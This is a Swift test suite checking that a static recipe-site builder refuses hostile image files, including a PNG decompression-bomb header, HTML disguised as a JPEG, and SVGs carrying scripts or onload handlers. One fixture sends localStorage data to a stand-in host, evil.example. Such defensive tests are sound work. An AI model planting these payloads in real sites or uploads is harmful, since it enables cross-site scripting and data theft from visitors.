import Foundation
import Testing
import TestSupport

/// Files called pictures that are not what their names say, or that would take the machine down
/// to decode: each is an error naming it, the build writes nothing, and nothing is ever decoded
/// past its header.
@Suite(.blocking, .serialized) struct HostilePictureTests {
    /// PNG's signature and IHDR (8-bit RGB) with its CRC-32 (PNG 1.2 §15), then the start of a
    /// pixel stream: enough for the header to say 30,000 × 30,000 (the 875 KB bomb
    /// would decode to 2.7 GB), which is refused before any pixel is read.
    static func bombHeader() -> [UInt8] {
        func be(_ v: UInt32) -> [UInt8] { [UInt8(v >> 24), UInt8((v >> 16) & 0xFF), UInt8((v >> 8) & 0xFF), UInt8(v & 0xFF)] }
        let body = Array("IHDR".utf8) + be(30_000) + be(30_000) + [8, 2, 0, 0, 0]
        var crc: UInt32 = 0xFFFF_FFFF
        for byte in body {
            crc ^= UInt32(byte)
            for _ in 0 ..< 8 { crc = crc & 1 == 1 ? (crc >> 1) ^ 0xEDB8_8320 : crc >> 1 }
        }
        return [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A] + be(13) + body + be(crc ^ 0xFFFF_FFFF) + be(2) + Array("IDAT".utf8) + [0x78, 0xDA]
    }

    @Test(.timeLimit(.minutes(1))) func lyingEmptyHEICAndHugePicturesAreRefusedByName() throws {
        let temp = try TemporaryFolder()
        try temp.write("site/content/toast.md", "---\ntitle: Toast\nimage: /pix/page.jpg\n---\n## Ingredients\n- 1 slice bread\n## Steps\n1. Toast.\n")
        func picture(_ name: String, _ bytes: [UInt8]) throws {
            try temp.write("site/static/pix/\(name)", "")
            try Data(bytes).write(to: temp.path("site/static/pix/\(name)"))
        }
        try picture("page.jpg", Array("<!doctype html><script>alert(document.cookie)</script>".utf8))
        try picture("drawing.png", Array("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".utf8))
        try picture("empty.webp", [])
        try picture("iphone.heic", [0, 0, 0, 24] + Array("ftypheic".utf8) + [0, 0, 0, 0] + Array("mif1heic".utf8))
        try picture("iphone.jpg", [0, 0, 0, 24] + Array("ftypheic".utf8) + [0, 0, 0, 0] + Array("mif1heic".utf8))
        try picture("bomb.png", Self.bombHeader())
        let build = try Executable.run(["build", ".", "-o", "public"], in: temp.path("site"))
        #expect(build.status == 1)
        #expect(build.stderr == """
            static/pix/bomb.png:1:1: error: This picture is 30000 × 30000 pixels, more than the 100 megapixels a picture may have; save a smaller copy (4,000 pixels wide is plenty). [picture-too-large]
            static/pix/drawing.png:1:1: error: This file is named as a PNG picture but its bytes are not one; save the picture again as a PNG, or give the file the right name. [not-a-picture]
            static/pix/empty.webp:1:1: error: This picture has no pixels (its width or height is 0); save it again from a photo editor. [empty-picture]
            static/pix/iphone.heic:1:1: error: This is an iPhone HEIC photo, which not every browser shows and Recipository cannot convert; export it as a JPEG (on a Mac: open it in Preview, then File › Export, Format JPEG). [heic-picture]
            static/pix/iphone.jpg:1:1: error: This is an iPhone HEIC photo, which not every browser shows and Recipository cannot convert; export it as a JPEG (on a Mac: open it in Preview, then File › Export, Format JPEG). [heic-picture]
            static/pix/page.jpg:1:1: error: This file is named as a JPEG picture but its bytes are not one; save the picture again as a JPEG, or give the file the right name. [not-a-picture]
            Not built: 6 errors. Fix them: they are not in a recipe, so --build-anyway cannot leave them out. The previous site is unchanged.

            """)
        #expect(!FileManager.default.fileExists(atPath: temp.path("site/public").path))
    }

    /// An SVG in `gallery:` or `static/` that holds a script is refused (opened from the site it
    /// would run with the site's storage); a plain drawing beside it is published byte for byte.
    @Test(.timeLimit(.minutes(1))) func aDrawingWithAScriptIsRefusedAndAPlainOneIsPublished() throws {
        let temp = try TemporaryFolder()
        let plain = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"30\"><title>Toast</title><rect width=\"40\" height=\"30\" fill=\"#d9a05b\"/></svg>\n"
        try temp.write("site/content/toast.md", "---\ntitle: Toast\nimage: toast.svg\ngallery: [crumbs.svg]\n---\n## Ingredients\n- 1 slice bread\n## Steps\n1. Toast.\n")
        try temp.write("site/content/toast.svg", plain)
        try temp.write("site/content/crumbs.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>localStorage.clear()</script></svg>")
        try temp.write("site/static/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('//evil.example/'+localStorage.length)\"/>")
        let build = try Executable.run(["build", ".", "-o", "public"], in: temp.path("site"))
        #expect(build.status == 1)
        #expect(build.stderr == """
            content/crumbs.svg:1:1: error: This drawing holds a script, which could run on the site or load from elsewhere; export it as a PNG or JPEG and use that instead. [unsafe-drawing]
            static/logo.svg:1:1: error: This drawing holds an event handler (onload), which could run on the site or load from elsewhere; export it as a PNG or JPEG and use that instead. [unsafe-drawing]
            Not built: 2 errors. Fix them: they are not in a recipe, so --build-anyway cannot leave them out. The previous site is unchanged.

            """)
        #expect(!FileManager.default.fileExists(atPath: temp.path("site/public").path))

        try FileManager.default.removeItem(at: temp.path("site/static/logo.svg"))
        try temp.write("site/content/toast.md", "---\ntitle: Toast\nimage: toast.svg\n---\n## Ingredients\n- 1 slice bread\n## Steps\n1. Toast.\n")
        try FileManager.default.removeItem(at: temp.path("site/content/crumbs.svg"))
        let again = try Executable.run(["build", ".", "-o", "public"], in: temp.path("site"))
        #expect(again.status == 0, "\(again.stderr)")
        let published = try FileManager.default.subpathsOfDirectory(atPath: temp.path("site/public").path).filter { $0.hasSuffix(".svg") && !$0.hasPrefix("assets/") }
        #expect(published.count == 1)
        #expect(try published.first.map { try String(contentsOf: temp.path("site/public/\($0)"), encoding: .utf8) } == plain)
    }

    /// A JPEG whose frame has no lines (it was written as `width="0" height="0"`).
    @Test(.timeLimit(.minutes(1))) func aPictureWithNoPixelsIsRefused() throws {
        let temp = try TemporaryFolder()
        try temp.write("site/content/toast.md", "---\ntitle: Toast\n---\n## Ingredients\n- 1 slice bread\n## Steps\n1. Toast.\n")
        // SOI, then a baseline frame header (ITU T.81 B.2.2) with 0 lines and 8 columns, one component.
        let jpeg: [UInt8] = [0xFF, 0xD8, 0xFF, 0xC0, 0, 11, 8, 0, 0, 0, 8, 1, 1, 0x11, 0, 0xFF, 0xD9]
        try temp.write("site/static/flat.jpg", "")
        try Data(jpeg).write(to: temp.path("site/static/flat.jpg"))
        let build = try Executable.run(["build", ".", "-o", "public"], in: temp.path("site"))
        #expect(build.status == 1)
        #expect(build.stderr.hasPrefix("static/flat.jpg:1:1: error: This picture has no pixels (its width or height is 0); save it again from a photo editor. [empty-picture]\n"))
    }

    /// `check` meets the pictures `build` would refuse, from their headers, and makes nothing:
    /// no copy, no cache, no site. An SVG drawing over 4 MiB is refused by its size and never
    /// read: a 3 GiB file (sparse, so the test writes nothing) is answered at once.
    @Test(.timeLimit(.minutes(1))) func checkReadsOnlyHeadersAndAHugeDrawingIsNotRead() throws {
        let temp = try TemporaryFolder()
        try temp.write("site/content/toast.md", "---\ntitle: Toast\nimage: /pix/phone.jpg\n---\n## Ingredients\n- 1 slice bread\n## Steps\n1. Toast.\n")
        try temp.write("site/static/pix/phone.jpg", "")
        try Data(contentsOf: Fixtures.pictures.appending(path: "phone.jpg")).write(to: temp.path("site/static/pix/phone.jpg"))
        try temp.write("site/static/pix/page.jpg", "<!doctype html><script>alert(1)</script>")
        try temp.write("site/static/pix/bomb.png", "")
        try Data(Self.bombHeader()).write(to: temp.path("site/static/pix/bomb.png"))
        try temp.write("site/static/map.svg", "")
        let handle = try FileHandle(forWritingTo: temp.path("site/static/map.svg"))
        try handle.truncate(atOffset: 3 << 30)
        try handle.close()
        let errors = """
            static/map.svg:1:1: error: This drawing is 3,072 MB, more than the 4 MB a drawing may have; export it as a PNG or JPEG and use that instead. [drawing-too-large]
            static/pix/bomb.png:1:1: error: This picture is 30000 × 30000 pixels, more than the 100 megapixels a picture may have; save a smaller copy (4,000 pixels wide is plenty). [picture-too-large]
            static/pix/page.jpg:1:1: error: This file is named as a JPEG picture but its bytes are not one; save the picture again as a JPEG, or give the file the right name. [not-a-picture]

            """
        let check = try Executable.run(["check", "."], in: temp.path("site"))
        #expect(check.status == 1)
        #expect(check.stderr == errors + "Checked 1 recipe: 3 errors, 0 warnings.\n", "\(check.stderr)")
        let build = try Executable.run(["build", ".", "-o", "public"], in: temp.path("site"))
        #expect(build.status == 1)
        #expect(build.stderr.hasPrefix(errors), "\(build.stderr)")
        // Neither made a copy of the good photo beside them, nor a site.
        #expect(try FileManager.default.contentsOfDirectory(atPath: temp.path("site").path).sorted() == ["content", "static"])

        // Just over the limit (4 MiB and a byte of a plain drawing) is refused too; at the limit it is read and checked.
        let drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"4\" height=\"3\"><rect width=\"4\" height=\"3\"/><!--"
        func map(_ size: Int) throws {
            let text = drawing + String(repeating: " ", count: size - drawing.utf8.count - 10) + "--></svg>\n"
            #expect(text.utf8.count == size)
            try text.write(to: temp.path("site/static/map.svg"), atomically: false, encoding: .utf8)
        }
        try FileManager.default.removeItem(at: temp.path("site/static/pix/page.jpg"))
        try FileManager.default.removeItem(at: temp.path("site/static/pix/bomb.png"))
        try map(4 * 1024 * 1024 + 1)
        let over = try Executable.run(["check", "."], in: temp.path("site"))
        #expect(over.status == 1 && over.stderr.contains("static/map.svg:1:1: error: This drawing is 4.1 MB, more than the 4 MB"), "\(over.stderr)")
        try map(4 * 1024 * 1024)
        let at = try Executable.run(["check", "."], in: temp.path("site"))
        #expect(at.status == 0, "\(at.stderr)")
    }
}
